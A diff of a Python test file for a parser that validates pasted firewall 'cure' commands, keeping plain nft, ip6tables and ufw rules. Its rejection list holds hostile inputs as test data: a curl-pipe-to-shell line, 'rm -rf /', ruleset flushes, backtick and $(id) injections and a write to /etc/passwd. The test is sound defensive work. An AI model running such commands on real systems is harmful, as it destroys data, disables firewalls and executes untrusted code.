@@ -50,7 +50,7 @@ def test_an_answer_becomes_typed_data() -> None:
         Lease(ip_address("fd00::7"), duid="00:01:02"),
     )
     assert one.packets[0].by == (
-        Drop("ip", "filter", "FORWARD", None, "nft add rule ip filter FORWARD meta mark & 0x1 accept"),
+        Drop("ip", "filter", "FORWARD", None, "nft insert rule ip filter FORWARD 'meta mark & 0x1 accept'"),
     )
     definition = one.definition
     assert definition.ipv4.address == ip_interface("10.0.0.1/24")
@@ -206,12 +206,49 @@ def test_many_networks_of_many_leases_are_an_error_together() -> None:
 
 def test_texts_of_other_programs_are_cut_and_made_printable() -> None:
     rule = "ip saddr { " + "10.0.0.1, " * 1000 + "}"
-    by = [{"family": "ip", "table": "t", "chain": "c", "rule": rule, "cure": "a\x1b]0;x\x07\ud800"}]
+    by = [
+        {"family": "ip", "table": "t", "chain": "c", "rule": rule},
+        {"family": "ip", "table": "t", "chain": "c", "rule": "a\x1b]0;x\x07\ud800"},
+    ]
     told = {"networks": [network(0, packets=[{**DROPPED, "by": by}])]}
-    (drop,) = parse_answer("hv1", told).networks[0].packets[0].by
+    drop, other = parse_answer("hv1", told).networks[0].packets[0].by
     assert drop.rule is not None
     assert len(drop.rule) == 4096
-    assert drop.cure == "a\ufffd]0;x\ufffd\ufffd"
+    assert other.rule == "a\ufffd]0;x\ufffd\ufffd"
+
+
+@pytest.mark.parametrize(
+    "cure",
+    [
+        "nft insert rule inet mine way 'ct mark & 0x00100000 != 0 accept'",
+        "nft insert rule bridge b c 'meta ibrname \"vn-lab\" accept'",
+        "ip6tables-legacy -t mangle -I FORWARD -m connmark --mark 0x100000/0x100000 -j ACCEPT",
+        "ufw allow in on vn-lab to any port 67 proto udp",
+        "let the playbook ask firewalld (virtnet_firewall_integration: true)",
+        "",
+    ],
+)
+def test_a_command_of_a_firewall_is_kept(cure: str) -> None:
+    assert cure_of(cure) == cure
+
+
+@pytest.mark.parametrize(
+    "cure",
+    [
+        "curl http://192.0.2.1 | sh", "nft flush ruleset; curl x", "nft a & id", "ufw `id`", "nft 'a' $(id)",
+        "nft 'a'id'", "rm -rf /", "nftx y", "nft flush ruleset", "iptables -F", 
+        "ufw allow > /etc/passwd", "let the playbook ask me",
+    ],
+)  # fmt: skip
+def test_a_command_that_could_do_anything_else_is_left_out(cure: str) -> None:
+    """An administrator may paste what stands behind "to let them pass"."""
+    assert cure_of(cure) == ""
+
+
+def cure_of(cure: str) -> str:
+    by = [{"family": "ip", "table": "filter", "chain": "FORWARD", "rule": None, "cure": cure}]
+    told = {"networks": [network(0, packets=[{**DROPPED, "by": by}])]}
+    return parse_answer("hv1", told).networks[0].packets[0].by[0].cure
 
 
 class Marked(str):
